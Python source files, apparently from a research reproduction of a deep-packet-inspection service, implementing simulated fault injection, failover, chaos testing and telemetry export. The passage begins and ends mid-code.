        self.down[name] = True
        if self.telemetry is not None:
            self.telemetry.record_fault(
                "heartbeat_lost",
                name,
                phase="detect",
                detail=f"{type(error).__name__}: {error}",
            )
        if self.on_instance_down is not None:
            self.on_instance_down(name)


@dataclass
class FailoverRecord:
    """What recovery did about one instance failure."""

    instance: str
    host: str
    detected_at: float
    mode: str = ""  # "resteer" | "provision" | "degrade"
    replacement: "str | None" = None
    chains: tuple = ()
    original_hops: dict = field(default_factory=dict)
    degraded_hosts: tuple = ()
    recovered_at: "float | None" = None
    reattached_at: "float | None" = None


class FailoverCoordinator:
    """Re-steers, re-provisions or degrades chains around dead instances."""

    def __init__(
        self,
        controller,
        tsa,
        topology,
        *,
        instance_hosts: dict[str, str],
        dpi_functions: "dict[str, DPIServiceFunction] | None" = None,
        middlebox_functions: "dict[str, object] | None" = None,
        spare_hosts: "list[str] | None" = None,
        kernel: str = "flat",
        shards: int = 0,
        shard_backend: str = "serial",
        shard_kernel: str = "flat",
        shard_workers: int = 0,
        shard_pipelined: bool = False,
        telemetry=None,
    ) -> None:
        self.controller = controller
        self.tsa = tsa
        self.topology = topology
        #: instance name -> host carrying its DPIServiceFunction.
        self.instance_hosts = dict(instance_hosts)
        #: instance name -> its attached DPIServiceFunction.
        self.dpi_functions = dict(dpi_functions or {})
        #: host name -> MiddleboxChainFunction, for degradation.
        self.middlebox_functions = dict(middlebox_functions or {})
        #: Hosts failover may provision fresh instances onto, in order.
        self.spare_hosts = list(spare_hosts or [])
        self.kernel = kernel
        self.shards = shards
        self.shard_backend = shard_backend
        self.shard_kernel = shard_kernel
        self.shard_workers = shard_workers
        self.shard_pipelined = shard_pipelined
        self.telemetry = telemetry
        self.records: dict[str, FailoverRecord] = {}

    def _record_fault(self, kind: str, target: str, phase: str, detail: str = "") -> None:
        if self.telemetry is not None:
            self.telemetry.record_fault(kind, target, phase=phase, detail=detail)

    def _now(self) -> float:
        return self.topology.simulator.now

    # --- failure path -------------------------------------------------------

    def handle_instance_down(self, name: str) -> FailoverRecord:
        """React to a detected instance failure (heartbeat callback)."""
        host = self.instance_hosts.get(name)
        record = FailoverRecord(
            instance=name, host=host or "", detected_at=self._now()
        )
        self.records[name] = record
        if host is None:
            record.mode = "unknown-host"
            return record
        affected = [
            chain_name
            for chain_name, realized in sorted(self.tsa.realized.items())
            if host in realized.hop_hosts
        ]
        record.chains = tuple(affected)
        for chain_name in affected:
            record.original_hops[chain_name] = self.tsa.realized[
                chain_name
            ].hop_hosts
        if not affected:
            record.mode = "no-op"
            record.recovered_at = self._now()
            return record

        replacement = self._pick_replacement(name)
        if replacement is None:
            replacement = self._provision_replacement(name, record)
        if replacement is not None:
            replacement_host = self.instance_hosts[replacement]
            for chain_name in affected:
                self.tsa.resteer_chain(chain_name, {host: replacement_host})
            record.replacement = replacement
            record.mode = record.mode or "resteer"
            record.recovered_at = self._now()
            self._record_fault(
                "failover",
                name,
                "recover",
                detail=(
                    f"{record.mode}: chains {','.join(affected)} -> "
                    f"{replacement}@{replacement_host}"
                ),
            )
        else:
            self._degrade(name, host, affected, record)
        return record

    def _pick_replacement(self, failed: str) -> "str | None":
        """The first surviving shared instance that can take the traffic."""
        instances = self.controller.instances
        for candidate in instances:
            if candidate == failed:
                continue
            if instances.is_dedicated(candidate):
                continue  # dedicated MCA² engines must survive failover
            if candidate not in self.instance_hosts:
                continue  # no data-plane presence
            if candidate not in self.dpi_functions:
                continue
            if not instances[candidate].alive:
                continue
            return candidate
        return None

    def _provision_replacement(
        self, failed: str, record: FailoverRecord
    ) -> "str | None":
        """Spawn a fresh instance on the first spare host, if any."""
        while self.spare_hosts:
            spare = self.spare_hosts.pop(0)
            if spare not in self.topology.hosts:
                continue
            new_name = f"{failed}-failover"
            suffix = 1
            while new_name in self.controller.instances:
                suffix += 1
                new_name = f"{failed}-failover{suffix}"
            instance = self.controller.instances.provision(
                new_name,
                kernel=self.kernel,
                shards=self.shards,
                shard_backend=self.shard_backend,
                shard_kernel=self.shard_kernel,
                shard_workers=self.shard_workers,
                shard_pipelined=self.shard_pipelined,
            )
            function = DPIServiceFunction(instance)
            self.topology.hosts[spare].set_function(function)
            self.tsa.register_middlebox_instance(
                self.controller.dpi_service_type, spare
            )
            self.instance_hosts[new_name] = instance_host = spare
            self.dpi_functions[new_name] = function
            record.mode = "provision"
            self._record_fault(
                "provision",
                new_name,
                "recover",
                detail=f"fresh instance on {instance_host}",
            )
            return new_name
        return None

    def _degrade(
        self, name: str, host: str, affected: list, record: FailoverRecord
    ) -> None:
        """No reachable instance: drop the DPI hop, scan locally."""
        degraded = []
        for chain_name in affected:
            hops = self.tsa.realized[chain_name].hop_hosts
            self.tsa.resteer_chain(chain_name, {host: None})
            for hop in hops:
                function = self.middlebox_functions.get(hop)
                if function is None or hop in degraded:
                    continue
                released = function.degrade()
                degraded.append(hop)
                for packet in released:
                    # Scanned locally; deliver straight to the destination
                    # over the untagged host routes.
                    packet.vlan_stack.clear()
                    function.host.send(packet)
        record.mode = "degrade"
        record.degraded_hosts = tuple(degraded)
        record.recovered_at = self._now()
        self._record_fault(
            "degrade",
            name,
            "recover",
            detail=(
                f"chains {','.join(affected)} fall back to legacy scanning "
                f"on {','.join(degraded) or 'no hosts'}"
            ),
        )

    # --- recovery path ------------------------------------------------------

    def handle_instance_up(self, name: str) -> "FailoverRecord | None":
        """Reattach a recovered instance (heartbeat callback)."""
        record = self.records.get(name)
        if record is None or record.reattached_at is not None:
            return record
        for chain_name in record.chains:
            original = record.original_hops.get(chain_name)
            if original is not None:
                self.tsa.reinstall_chain(chain_name, original)
        for hop in record.degraded_hosts:
            function = self.middlebox_functions.get(hop)
            if function is not None:
                function.restore()
        record.reattached_at = self._now()
        self._record_fault(
            "reattach",
            name,
            "recover",
            detail=f"chains {','.join(record.chains)} restored",
        )
        return record

    # --- reporting ----------------------------------------------------------

    def failover_times(self) -> dict[str, float]:
        """Instance -> seconds from detection to chains recovered."""
        return {
            name: record.recovered_at - record.detected_at
            for name, record in sorted(self.records.items())
            if record.recovered_at is not None
        }
