"""The chaos harness: a fault plan against a live scenario, end to end.

``run_chaos_scenario`` wires the Figure 5 system with the full fault
stack — control channel, heartbeat monitor, failover coordinator, fault
injector — schedules a deterministic packet workload on the simulator
clock, arms the plan, and runs everything in one pass.  The returned
:class:`ChaosResult` carries the loss accounting the acceptance criteria
are written against:

* ``lost_after_recovery`` — packets sent after the last recovery action
  that never reached their destination (must be empty);
* ``failover_times`` vs the configured budget;
* ``digest`` — a SHA-256 over delivery order and the fault timeline; two
  runs with the same plan and seed must produce the same digest.
"""

from __future__ import annotations

import hashlib
import json
import random
from dataclasses import dataclass, field

from repro.faults.control import ControlChannel
from repro.faults.injector import FaultInjector
from repro.faults.plan import FaultPlan
from repro.faults.recovery import (
    FailoverCoordinator,
    HeartbeatConfig,
    HeartbeatMonitor,
)
from repro.net.packet import make_tcp_packet
from repro.telemetry.scenario import AV_SIG, _build_payload, build_figure5_system

#: Host added next to s3 that failover can provision a fresh instance onto.
STANDBY_HOST = "dpi-standby"


@dataclass
class ChaosResult:
    """Everything a chaos run produced, for reporting and assertions."""

    scenario: str
    plan: FaultPlan
    hub: object
    topology: object
    dpi_controller: object
    tsa: object
    control: ControlChannel
    monitor: HeartbeatMonitor
    coordinator: FailoverCoordinator
    injector: FaultInjector
    packets_sent: int
    sent_ids: tuple
    send_times: dict = field(default_factory=dict)
    #: Packets the policy itself is expected to drop (e.g. AV signatures):
    #: they never count as loss, delivered or not.
    policy_drop_ids: tuple = ()
    received_ids: tuple = ()
    lost_ids: tuple = ()
    recovery_complete_at: float = 0.0
    lost_after_recovery: tuple = ()
    failover_times: dict = field(default_factory=dict)
    failover_budget: float = 0.0
    unrecovered_instances: tuple = ()
    digest: str = ""

    @property
    def budget_exceeded(self) -> "dict[str, float]":
        """Failovers slower than the budget (empty = all within bounds)."""
        return {
            name: duration
            for name, duration in sorted(self.failover_times.items())
            if duration > self.failover_budget
        }

    @property
    def ok(self) -> bool:
        """The acceptance predicate the CLI and CI smoke job gate on."""
        return (
            not self.lost_after_recovery
            and not self.unrecovered_instances
            and not self.budget_exceeded
        )

    def summary(self) -> dict:
        """A JSON-friendly report."""
        return {
            "scenario": self.scenario,
            "ok": self.ok,
            "packets_sent": self.packets_sent,
            "packets_received": len(self.received_ids),
            "policy_drops": len(self.policy_drop_ids),
            "packets_lost": len(self.lost_ids),
            "lost_after_recovery": len(self.lost_after_recovery),
            "recovery_complete_at": self.recovery_complete_at,
            "failover_times": {
                name: round(duration, 6)
                for name, duration in sorted(self.failover_times.items())
            },
            "failover_budget": self.failover_budget,
            "budget_exceeded": sorted(self.budget_exceeded),
            "unrecovered_instances": list(self.unrecovered_instances),
            "faults": [
                event.as_dict() for event in getattr(self.hub, "faults", ())
            ],
            "digest": self.digest,
        }


def _digest(result: ChaosResult) -> str:
    """A stable fingerprint of everything observable about the run.

    Packet ids are process-global, so the digest uses each packet's
    position in the workload instead — two same-seed runs in one process
    then fingerprint identically.
    """
    index_of = {pid: i for i, pid in enumerate(result.sent_ids)}
    material = {
        "received": [
            index_of[pid] for pid in result.received_ids if pid in index_of
        ],
        "lost": [index_of[pid] for pid in result.lost_ids if pid in index_of],
        "faults": [
            event.as_dict() for event in getattr(result.hub, "faults", ())
        ],
        "failover_times": {
            name: round(duration, 9)
            for name, duration in sorted(result.failover_times.items())
        },
    }
    payload = json.dumps(material, sort_keys=True).encode("utf-8")
    return hashlib.sha256(payload).hexdigest()


def run_chaos_scenario(
    plan: FaultPlan,
    scenario: str = "figure5",
    *,
    packets: int = 60,
    packet_interval: float = 0.01,
    kernel: str = "flat",
    shards: int = 0,
    shard_backend: str = "serial",
    shard_kernel: str = "flat",
    shard_workers: int = 0,
    shard_pipelined: bool = False,
    heartbeat: HeartbeatConfig | None = None,
    control_latency: float = 0.002,
    control_timeout: float = 0.02,
    allow_spare: bool = True,
) -> ChaosResult:
    """Run *plan* against the Figure 5 system under a packet workload.

    The workload is pre-built from ``plan.seed`` (payloads, chain
    alternation) and scheduled at fixed ``packet_interval`` steps on the
    simulator clock, interleaving with the plan's faults.  The run drains
    completely: first to the workload/fault horizon, then — heartbeats
    stopped — until every in-flight packet and control timer has settled.
    """
    if scenario != "figure5":
        raise ValueError(f"unknown chaos scenario: {scenario!r}")
    heartbeat = heartbeat or HeartbeatConfig()

    system = build_figure5_system(
        kernel=kernel,
        extra_hosts={STANDBY_HOST: "s3"},
        shards=shards,
        shard_backend=shard_backend,
        shard_kernel=shard_kernel,
        shard_workers=shard_workers,
        shard_pipelined=shard_pipelined,
    )
    topo = system.topology
    hub = system.hub
    controller = system.dpi_controller

    control = ControlChannel(
        topo.simulator,
        latency=control_latency,
        timeout=control_timeout,
        seed=plan.seed,
        telemetry=hub,
    )
    coordinator = FailoverCoordinator(
        controller,
        system.tsa,
        topo,
        instance_hosts={"dpi3": "dpi3"},
        dpi_functions={"dpi3": system.dpi_function},
        middlebox_functions=system.middlebox_functions,
        spare_hosts=[STANDBY_HOST] if allow_spare else [],
        kernel=kernel,
        shards=shards,
        shard_backend=shard_backend,
        shard_kernel=shard_kernel,
        shard_workers=shard_workers,
        shard_pipelined=shard_pipelined,
        telemetry=hub,
    )
    monitor = HeartbeatMonitor(
        topo.simulator,
        control,
        controller.instances,
        config=heartbeat,
        telemetry=hub,
        on_instance_down=coordinator.handle_instance_down,
        on_instance_up=coordinator.handle_instance_up,
    )
    injector = FaultInjector(
        topo.simulator,
        instances=controller.instances,
        topology=topo,
        control=control,
        dpi_functions=coordinator.dpi_functions,
        telemetry=hub,
    )
    monitor.start()
    injector.arm(plan)

    # Pre-build the workload so RNG consumption is independent of event
    # interleaving, then schedule the sends on the sim clock.
    rng = random.Random(plan.seed)
    sent_ids = []
    send_times: dict[int, float] = {}
    policy_drops = []

    def make_sender(src, packet):
        return lambda: src.send(packet)

    for index in range(packets):
        chain = "chain1" if index % 2 == 0 else "chain2"
        src = topo.hosts["src1" if chain == "chain1" else "src2"]
        dst = topo.hosts["dst1" if chain == "chain1" else "dst2"]
        payload = _build_payload(rng, chain)
        # One flow per packet: the AV quarantines whole flows on a hit, so
        # shared 5-tuples would turn later clean packets into (correct)
        # policy drops and muddy the loss accounting.
        packet = make_tcp_packet(
            src.mac, dst.mac, src.ip, dst.ip,
            40000 + index, 80, payload=payload,
        )
        at = (index + 1) * packet_interval
        sent_ids.append(packet.packet_id)
        send_times[packet.packet_id] = at
        if chain == "chain2" and AV_SIG in payload:
            # The antivirus drops these by verdict — expected, not loss.
            policy_drops.append(packet.packet_id)
        topo.simulator.schedule_at(
            at, make_sender(src, packet), label=f"chaos:send:{index}"
        )

    horizon = max(
        (packets + 1) * packet_interval,
        max((spec.at + spec.duration for spec in plan), default=0.0),
    )
    # Give detection and failover room past the last fault/send, then stop
    # the heartbeat so the event queue can drain.
    settle = 4 * (heartbeat.timeout + heartbeat.interval)
    topo.run(until=horizon + settle)
    monitor.stop()
    topo.run()

    received = []
    for dst_name in ("dst1", "dst2"):
        for packet in topo.hosts[dst_name].received_packets:
            if not packet.is_result_packet:
                received.append(packet.packet_id)
    received_set = sorted(set(received))
    deliverable = set(sent_ids) - set(policy_drops)
    lost = tuple(
        pid
        for pid in sent_ids
        if pid in deliverable and pid not in set(received)
    )

    # A run is "recovered" after the last healing action: any recover-phase
    # event (failover, degrade, reattach, window close) and any injected
    # fault that itself ends an outage (a link coming back, an instance
    # restarting — the heartbeat's reattach events also land shortly after,
    # but the inject time is the earliest honest bound).
    healing_kinds = ("link_up", "instance_restart")
    recover_times = [
        event.time
        for event in getattr(hub, "faults", ())
        if event.phase == "recover" or event.kind in healing_kinds
    ]
    recovery_complete_at = max(recover_times, default=0.0)
    lost_after_recovery = tuple(
        pid for pid in lost if send_times[pid] > recovery_complete_at
    )
    unrecovered = []
    for name, is_down in sorted(monitor.down.items()):
        if not is_down:
            continue
        record = coordinator.records.get(name)
        if record is None or record.recovered_at is None:
            unrecovered.append(name)

    result = ChaosResult(
        scenario=scenario,
        plan=plan,
        hub=hub,
        topology=topo,
        dpi_controller=controller,
        tsa=system.tsa,
        control=control,
        monitor=monitor,
        coordinator=coordinator,
        injector=injector,
        packets_sent=packets,
        sent_ids=tuple(sent_ids),
        send_times=send_times,
        policy_drop_ids=tuple(policy_drops),
        received_ids=tuple(received_set),
        lost_ids=lost,
        recovery_complete_at=recovery_complete_at,
        lost_after_recovery=lost_after_recovery,
        failover_times=coordinator.failover_times(),
        failover_budget=heartbeat.failover_budget,
        unrecovered_instances=tuple(unrecovered),
    )
    result.digest = _digest(result)
    return result
