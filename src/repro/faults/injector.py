"""Turn a :class:`~repro.faults.plan.FaultPlan` into scheduled sim events.

The injector owns *injection* only: it arms each spec on the simulator
clock and flips the corresponding switch (crash the instance, down the
link, impair the control channel, corrupt results) when the event fires.
Detection and recovery live in :mod:`repro.faults.recovery` and observe
the damage the same way production code would — through heartbeats and
telemetry — never by peeking at the plan.

Every injected fault is recorded on the telemetry hub as a
:class:`~repro.telemetry.FaultEvent` with phase ``"inject"``.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Mapping

from repro.faults.plan import FaultKind, FaultPlan, FaultSpec

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.faults.control import ControlChannel
    from repro.net.simulator import Simulator
    from repro.net.topology import Topology


class FaultInjector:
    """Arms fault plans against a live simulation."""

    def __init__(
        self,
        simulator: "Simulator",
        *,
        instances: Mapping | None = None,
        topology: "Topology | None" = None,
        control: "ControlChannel | None" = None,
        dpi_functions: Mapping | None = None,
        telemetry=None,
    ) -> None:
        self.simulator = simulator
        self.instances = instances if instances is not None else {}
        self.topology = topology
        self.control = control
        #: instance name -> the DPIServiceFunction fronting it, for
        #: result-corruption faults.
        self.dpi_functions = dict(dpi_functions or {})
        self.telemetry = telemetry
        self.injected: list[FaultSpec] = []

    def _record(self, spec: FaultSpec, detail: str = "") -> None:
        self.injected.append(spec)
        if self.telemetry is not None:
            self.telemetry.record_fault(
                spec.kind.value, spec.target, phase="inject", detail=detail
            )

    # --- arming ------------------------------------------------------------

    def arm(self, plan: FaultPlan) -> int:
        """Schedule every spec in *plan*; returns the number armed."""
        for spec in plan:
            self.simulator.schedule_at(
                spec.at,
                self._firer(spec),
                label=f"fault:{spec.kind.value}:{spec.target}",
            )
        return len(plan)

    def _firer(self, spec: FaultSpec):
        return lambda: self.inject(spec)

    # --- injection ---------------------------------------------------------

    def inject(self, spec: FaultSpec) -> None:
        """Apply one fault immediately (the armed events land here)."""
        kind = spec.kind
        if kind is FaultKind.INSTANCE_CRASH:
            self._instance(spec.target).crash()
            self._record(spec)
        elif kind is FaultKind.INSTANCE_RESTART:
            self._instance(spec.target).restart()
            self._record(spec)
        elif kind is FaultKind.LINK_DOWN:
            self._link(spec.target).set_admin(False)
            self._record(spec)
        elif kind is FaultKind.LINK_UP:
            self._link(spec.target).set_admin(True)
            self._record(spec)
        elif kind is FaultKind.CONTROL_DROP:
            self._control_window(
                spec, drop_probability=spec.value, extra_delay=None
            )
        elif kind is FaultKind.CONTROL_DELAY:
            self._control_window(
                spec, drop_probability=None, extra_delay=spec.value
            )
        elif kind is FaultKind.RESULT_CORRUPT:
            self._corrupt_window(spec)
        else:  # pragma: no cover - enum is closed
            raise ValueError(f"unknown fault kind: {kind!r}")

    # --- target resolution --------------------------------------------------

    def _instance(self, name: str):
        try:
            return self.instances[name]
        except KeyError:
            raise KeyError(
                f"fault targets unknown instance {name!r}"
            ) from None

    def _link(self, target: str):
        if self.topology is None:
            raise ValueError("link fault armed without a topology")
        try:
            name_a, name_b = target.split("|", 1)
        except ValueError:
            raise ValueError(
                f"link fault target must be 'nodeA|nodeB', got {target!r}"
            ) from None
        return self.topology.link_between(name_a, name_b)

    # --- window faults ------------------------------------------------------

    def _control_window(
        self,
        spec: FaultSpec,
        *,
        drop_probability: float | None,
        extra_delay: float | None,
    ) -> None:
        if self.control is None:
            raise ValueError("control fault armed without a control channel")
        self.control.impair(
            drop_probability=drop_probability, extra_delay=extra_delay
        )
        self._record(spec, detail=f"value={spec.value}")
        if spec.duration > 0:

            def clear() -> None:
                self.control.clear_impairments()
                if self.telemetry is not None:
                    self.telemetry.record_fault(
                        spec.kind.value,
                        spec.target,
                        phase="recover",
                        detail="window closed",
                    )

            self.simulator.schedule(
                spec.duration, clear, label=f"fault:clear:{spec.kind.value}"
            )

    def _corrupt_window(self, spec: FaultSpec) -> None:
        try:
            function = self.dpi_functions[spec.target]
        except KeyError:
            raise KeyError(
                f"result_corrupt targets instance {spec.target!r} with no "
                "registered DPI function"
            ) from None
        function.corrupt_results = True
        self._record(spec)
        if spec.duration > 0:

            def clear() -> None:
                function.corrupt_results = False
                if self.telemetry is not None:
                    self.telemetry.record_fault(
                        spec.kind.value,
                        spec.target,
                        phase="recover",
                        detail="window closed",
                    )

            self.simulator.schedule(
                spec.duration, clear, label="fault:clear:result_corrupt"
            )
