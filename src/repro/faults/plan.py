"""Fault plans: seeded, schedulable failure scenarios.

A :class:`FaultPlan` is a list of :class:`FaultSpec` entries — *when* (sim
clock seconds), *what* (:class:`FaultKind`) and *against whom* (an instance
name, a ``"a|b"`` link endpoint pair, or the control channel).  Plans are
plain data: they round-trip through JSON (``repro-dpi chaos --plan
plan.json``), carry the seed that makes a chaos run reproducible, and are
interpreted by :class:`~repro.faults.injector.FaultInjector` against a live
simulation.
"""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterator, Sequence


class FaultKind(enum.Enum):
    """The failure modes a plan can schedule."""

    #: Crash a DPI service instance (target: instance name).
    INSTANCE_CRASH = "instance_crash"
    #: Restart a crashed instance (target: instance name).
    INSTANCE_RESTART = "instance_restart"
    #: Take a link administratively down (target: ``"nodeA|nodeB"``).
    LINK_DOWN = "link_down"
    #: Bring a downed link back up (target: ``"nodeA|nodeB"``).
    LINK_UP = "link_up"
    #: Drop control messages with probability ``value`` for ``duration``
    #: seconds (target: ``"control"``).
    CONTROL_DROP = "control_drop"
    #: Delay control messages by ``value`` seconds for ``duration`` seconds
    #: (target: ``"control"``).
    CONTROL_DELAY = "control_delay"
    #: Corrupt the result packets an instance emits for ``duration``
    #: seconds (target: instance name).
    RESULT_CORRUPT = "result_corrupt"


@dataclass(frozen=True)
class FaultSpec:
    """One scheduled fault.

    ``duration`` bounds window faults (control impairments, result
    corruption); ``value`` carries the fault's magnitude (drop probability,
    delay seconds).  Both are ignored by kinds that do not use them.
    """

    at: float
    kind: FaultKind
    target: str
    duration: float = 0.0
    value: float = 0.0

    def __post_init__(self) -> None:
        if self.at < 0:
            raise ValueError(f"fault scheduled in the past: at={self.at}")
        if self.duration < 0:
            raise ValueError(f"negative fault duration: {self.duration}")

    def as_dict(self) -> dict[str, Any]:
        """A JSON-friendly copy."""
        record: dict[str, Any] = {
            "at": self.at,
            "kind": self.kind.value,
            "target": self.target,
        }
        if self.duration:
            record["duration"] = self.duration
        if self.value:
            record["value"] = self.value
        return record

    @classmethod
    def from_dict(cls, record: dict) -> "FaultSpec":
        """Parse one spec; raises KeyError/ValueError on malformed input."""
        return cls(
            at=float(record["at"]),
            kind=FaultKind(record["kind"]),
            target=str(record["target"]),
            duration=float(record.get("duration", 0.0)),
            value=float(record.get("value", 0.0)),
        )


@dataclass(frozen=True)
class FaultPlan:
    """An ordered fault schedule plus the seed that reproduces the run."""

    specs: tuple[FaultSpec, ...] = field(default_factory=tuple)
    seed: int = 0

    def __post_init__(self) -> None:
        # Stored sorted by injection time (stable for equal times) so the
        # injector's schedule order never depends on authoring order.
        object.__setattr__(
            self, "specs", tuple(sorted(self.specs, key=lambda s: s.at))
        )

    def __iter__(self) -> Iterator[FaultSpec]:
        return iter(self.specs)

    def __len__(self) -> int:
        return len(self.specs)

    def targeting(self, target: str) -> "tuple[FaultSpec, ...]":
        """Every spec aimed at *target*, in schedule order."""
        return tuple(spec for spec in self.specs if spec.target == target)

    # --- JSON round-trip --------------------------------------------------

    def to_json(self, indent: int | None = 2) -> str:
        """Serialize the plan (stable key order)."""
        return json.dumps(
            {
                "seed": self.seed,
                "faults": [spec.as_dict() for spec in self.specs],
            },
            indent=indent,
            sort_keys=True,
        )

    @classmethod
    def from_json(cls, text: str) -> "FaultPlan":
        """Parse a plan; raises ValueError on malformed documents."""
        try:
            document = json.loads(text)
        except json.JSONDecodeError as error:
            raise ValueError(f"invalid fault plan JSON: {error}") from None
        if not isinstance(document, dict) or "faults" not in document:
            raise ValueError(
                'fault plan must be an object with a "faults" list'
            )
        faults = document["faults"]
        if not isinstance(faults, list):
            raise ValueError('"faults" must be a list')
        try:
            specs = tuple(FaultSpec.from_dict(record) for record in faults)
        except (KeyError, TypeError) as error:
            raise ValueError(f"malformed fault spec: {error}") from None
        return cls(specs=specs, seed=int(document.get("seed", 0)))

    def save(self, path) -> None:
        """Write the plan to *path* as JSON."""
        Path(path).write_text(self.to_json() + "\n", encoding="utf-8")

    @classmethod
    def load(cls, path) -> "FaultPlan":
        """Read a plan from a JSON file."""
        return cls.from_json(Path(path).read_text(encoding="utf-8"))

    # --- construction helpers ---------------------------------------------

    @classmethod
    def of(cls, specs: "Sequence[FaultSpec]", seed: int = 0) -> "FaultPlan":
        """A plan from any spec sequence (sorted by time automatically)."""
        return cls(specs=tuple(specs), seed=seed)
