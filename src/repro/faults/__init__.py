"""Fault injection and recovery for DPI-as-a-service simulations.

The paper's availability argument (Section 4.4: the DPI service is a
critical component, so it must tolerate instance failures) is exercised
here as a deterministic, simulator-clocked chaos layer:

* :mod:`repro.faults.plan` — :class:`FaultPlan`: seeded, JSON-round-trip
  fault schedules;
* :mod:`repro.faults.control` — :class:`ControlChannel`: the lossy,
  delayable controller↔instance path with timeout/retry RPCs;
* :mod:`repro.faults.injector` — :class:`FaultInjector`: arms a plan
  against a live simulation;
* :mod:`repro.faults.recovery` — :class:`HeartbeatMonitor` and
  :class:`FailoverCoordinator`: detection, re-steering, graceful
  degradation to legacy middleboxes, reattachment;
* :mod:`repro.faults.chaos` — :func:`run_chaos_scenario`: the end-to-end
  harness behind ``repro-dpi chaos``.
"""

from repro.faults.chaos import ChaosResult, run_chaos_scenario
from repro.faults.control import ControlChannel, RetryPolicy
from repro.faults.injector import FaultInjector
from repro.faults.plan import FaultKind, FaultPlan, FaultSpec
from repro.faults.recovery import (
    FailoverCoordinator,
    FailoverRecord,
    HeartbeatConfig,
    HeartbeatMonitor,
)

__all__ = [
    "ChaosResult",
    "ControlChannel",
    "FailoverCoordinator",
    "FailoverRecord",
    "FaultInjector",
    "FaultKind",
    "FaultPlan",
    "FaultSpec",
    "HeartbeatConfig",
    "HeartbeatMonitor",
    "RetryPolicy",
    "run_chaos_scenario",
]
