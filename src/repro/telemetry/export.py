"""Telemetry exporters: JSONL event log and Prometheus text format.

The JSONL export writes one JSON object per line — every metric's current
value (``{"type": "metric", ...}``) followed by every retained span
(``{"type": "span", ...}``) — so a run's telemetry can be replayed or
diffed with standard line tools.  The Prometheus export renders the
registry in the text exposition format (``# TYPE`` headers, labeled
samples, cumulative ``_bucket``/``_sum``/``_count`` histogram series).
"""

from __future__ import annotations

import json
from pathlib import Path


def _format_number(value) -> str:
    if isinstance(value, float) and value == int(value) and abs(value) < 1e15:
        return str(int(value))
    return repr(value) if isinstance(value, float) else str(value)


def _escape_label_value(value) -> str:
    return (
        str(value)
        .replace("\\", "\\\\")
        .replace('"', '\\"')
        .replace("\n", "\\n")
    )


def _render_labels(labels: dict, extra=None) -> str:
    items = sorted(labels.items())
    if extra:
        items = items + list(extra)
    if not items:
        return ""
    body = ",".join(
        f'{name}="{_escape_label_value(value)}"' for name, value in items
    )
    return "{" + body + "}"


def prometheus_text(registry) -> str:
    """The registry in Prometheus text exposition format."""
    lines: list[str] = []
    seen_types: set = set()
    for metric in registry.collect():
        if metric.name not in seen_types:
            seen_types.add(metric.name)
            lines.append(f"# TYPE {metric.name} {metric.kind}")
        if metric.kind == "histogram":
            labels = metric.labels
            for bound, cumulative in metric.cumulative_buckets():
                le = "+Inf" if bound == float("inf") else _format_number(bound)
                lines.append(
                    f"{metric.name}_bucket"
                    f"{_render_labels(labels, [('le', le)])} {cumulative}"
                )
            lines.append(
                f"{metric.name}_sum{_render_labels(labels)} "
                f"{_format_number(metric.sum)}"
            )
            lines.append(
                f"{metric.name}_count{_render_labels(labels)} {metric.count}"
            )
        else:
            lines.append(
                f"{metric.name}{_render_labels(metric.labels)} "
                f"{_format_number(metric.value)}"
            )
    return "\n".join(lines) + ("\n" if lines else "")


def iter_events(hub):
    """Yield every JSONL event dict: metrics, then faults, then spans."""
    ts = hub.registry.now()
    for metric in hub.registry.collect():
        event = metric.as_dict()
        event["type"] = "metric"
        event["ts"] = ts
        yield event
    for fault in getattr(hub, "faults", ()):
        event = fault.as_dict()
        event["type"] = "fault"
        yield event
    if hub.tracer is not None:
        for span in hub.tracer.spans:
            event = span.as_dict()
            event["type"] = "span"
            yield event


def export_jsonl(hub, path) -> int:
    """Write the hub's telemetry as JSONL; returns the number of lines."""
    count = 0
    with Path(path).open("w", encoding="utf-8") as stream:
        for event in iter_events(hub):
            stream.write(json.dumps(event, sort_keys=True))
            stream.write("\n")
            count += 1
    return count
