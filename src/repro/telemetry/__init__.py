"""Unified telemetry for the DPI service reproduction.

One :class:`TelemetryHub` bundles the three things every consumer needs:

* a :class:`~repro.telemetry.registry.MetricsRegistry` of counters, gauges
  and histograms with windowed delta support (the MCA² stress monitor and
  the deployment planner read load through windows over it);
* a :class:`~repro.telemetry.tracing.Tracer` whose spans follow a packet
  end-to-end — TSA steering, switch hops, DPI inspection, middlebox result
  delivery;
* a clock.  Inside a simulation the hub reads the discrete-event
  :class:`~repro.net.simulator.Simulator` clock
  (:meth:`TelemetryHub.for_simulator`); bare scans outside a simulator fall
  back to the wall clock.

Exporters (:mod:`repro.telemetry.export`) dump the registry and the span
log as JSONL events or a Prometheus text-format page;
:mod:`repro.telemetry.report` renders the per-instance/per-chain summary
behind ``repro-dpi report``.

Telemetry is opt-in on the scan hot path: a
:class:`~repro.core.instance.DPIServiceInstance` built without a hub keeps
the zero-overhead fast path and produces byte-identical scan results
(``benchmarks/test_telemetry.py`` guards the enabled overhead at <5%).
"""

from __future__ import annotations

import time

from repro.telemetry.registry import (
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    MetricsWindow,
    WindowDelta,
    percentile_from_counts,
)
from repro.telemetry.snapshot import FaultEvent, TelemetrySnapshot
from repro.telemetry.tracing import DEFAULT_MAX_SPANS, Tracer, TraceSpan

__all__ = [
    "Counter",
    "FaultEvent",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "MetricsWindow",
    "WindowDelta",
    "TelemetryHub",
    "TelemetrySnapshot",
    "Tracer",
    "TraceSpan",
    "percentile_from_counts",
]


class TelemetryHub:
    """Registry + tracer + clock, shared by every telemetry producer."""

    def __init__(
        self,
        clock=None,
        tracing: bool = True,
        max_spans: int = DEFAULT_MAX_SPANS,
    ) -> None:
        self._clock = clock if clock is not None else time.monotonic
        self.registry = MetricsRegistry(clock=self._clock)
        self.tracer = (
            Tracer(clock=self._clock, max_spans=max_spans) if tracing else None
        )
        self.faults: list[FaultEvent] = []

    def now(self) -> float:
        """The hub clock's current time."""
        return self._clock()

    def record_fault(
        self,
        kind: str,
        target: str,
        *,
        phase: str = "inject",
        detail: str = "",
    ) -> FaultEvent:
        """Append a :class:`FaultEvent` at the current hub time.

        Also bumps ``fault_events_total{kind,phase}`` so fault activity is
        visible in plain metric exports without reading the event log.
        """
        event = FaultEvent(
            time=self.now(), kind=kind, target=target, phase=phase,
            detail=detail,
        )
        self.faults.append(event)
        self.registry.counter(
